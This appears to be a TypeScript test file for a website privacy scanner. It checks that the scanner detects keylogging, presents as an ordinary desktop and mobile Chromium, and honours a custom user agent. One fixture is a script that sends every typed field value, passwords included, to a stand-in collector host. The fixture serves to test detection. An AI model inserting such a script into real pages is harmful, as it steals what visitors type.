import type { IncomingMessage, ServerResponse } from "node:http";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type TestScans, testScans } from "./test-scans.ts";
import { appearanceOf } from "./user-agent.ts";

let scans: TestScans;
beforeAll(async () => {
  scans = await testScans();
}, 60_000);
afterAll(() => scans?.close());

const FOOT = `<form action="/news"><input type="text" name="news"></form>`;
const LISTEN = `<script>for (const field of document.querySelectorAll("input, textarea"))
  field.addEventListener("blur", () => navigator.sendBeacon("https://collect.example/e", field.value))</script>`;

test("a site gets to see an ordinary Chromium on a desk and on a phone, and each form of its own is typed in once", async () => {
  const seen: { path: string; agent: string; brands: string; isMobile: string }[] = [];
  const page = (body: string) => (request: IncomingMessage, response: ServerResponse) => {
    const { "user-agent": agent = "", ...headers } = request.headers;
    const [brands, isMobile] = [String(headers["sec-ch-ua"]), String(headers["sec-ch-ua-mobile"])];
    seen.push({ path: request.url ?? "", agent, brands, isMobile });
    response.end(body + FOOT + LISTEN);
  };
  const kinds = ["email", "tel", "password"];
  const fields = kinds.map((kind) => `<form action="/to-${kind}"><input type="${kind}" name="x"></form>`);
  const pages = Object.fromEntries(fields.map((field, i) => [`/page-${i}`, page(field)]));
  const links = [...Object.keys(pages), "/text", "/same"].map((path) => `<a href="${path}">x</a>`).join("");
  const { of, reasons, origin } = await scans.scan({
    ...pages,
    "/": page(links),
    "/text": page(`<textarea name="words"></textarea>`),
    "/same": page(""),
  });
  expect(
    of("KEY_LOGGING")
      .map(({ location, reasons: [, what] }) => [new URL(location.url ?? "").origin, what])
      .sort(),
  ).toEqual(
    ["email", "password", "tel", "text", "textarea"].map((kind) => [
      origin,
      `what was typed in a field of type ${kind} went along as it is`,
    ]),
  );
  // Its only form is at the foot of every page, and it is no page for the choices of a visitor.
  expect(seen.filter(({ path }) => path === "/same")).toHaveLength(1);
  expect(Object.keys(reasons).filter((reason) => reason.startsWith("where typed"))).toEqual([]);
  const phone =
    /^Mozilla\/5\.0 \(Linux; Android 10; K\) AppleWebKit\/537\.36 \(KHTML, like Gecko\) Chrome\/(\d+)\.0\.0\.0 Mobile Safari\/537\.36$/;
  const desk =
    /^Mozilla\/5\.0 \([^)]+\) AppleWebKit\/537\.36 \(KHTML, like Gecko\) Chrome\/(\d+)\.0\.0\.0 Safari\/537\.36$/;
  const browsers = seen.filter(({ brands }) => brands !== "undefined");
  expect(new Set(browsers.map(({ isMobile }) => isMobile))).toEqual(new Set(["?0", "?1"]));
  for (const { agent, brands, isMobile } of browsers) {
    const [, major] = (isMobile === "?1" ? phone : desk).exec(agent) ?? [];
    expect(brands).toBe(`"Not_A Brand";v="8", "Chromium";v="${major}"`);
  }
  expect(JSON.stringify(seen)).not.toMatch(/headless/i);
}, 90_000);

test("a name of one's own goes with all that a scan asks for", async () => {
  const agents = new Set<string | undefined>();
  const note = (request: IncomingMessage, response: ServerResponse) => {
    agents.add(request.headers["user-agent"]);
    response.end("<p>x</p>");
  };
  const userAgent = "Voorbeeld-audit/1.0 (+https://example.org/)";
  await scans.scan({ "/": note, "/robots.txt": note }, { website: { userAgent } });
  expect([...agents]).toEqual([userAgent]);
}, 60_000);

test("a browser with a window is what it was taken for", () => {
  const usual =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Safari/537.36";
  const seen = { usual, version: "153.0.8010.2", platform: "win32", arch: "arm64" };
  expect(appearanceOf(seen, false)).toMatchObject({
    userAgent: usual,
    userAgentMetadata: {
      fullVersionList: [{ brand: "Not_A Brand" }, { brand: "Chromium", version: "153.0.8010.2" }],
      platform: "Windows",
      architecture: "arm",
      mobile: false,
    },
  });
});
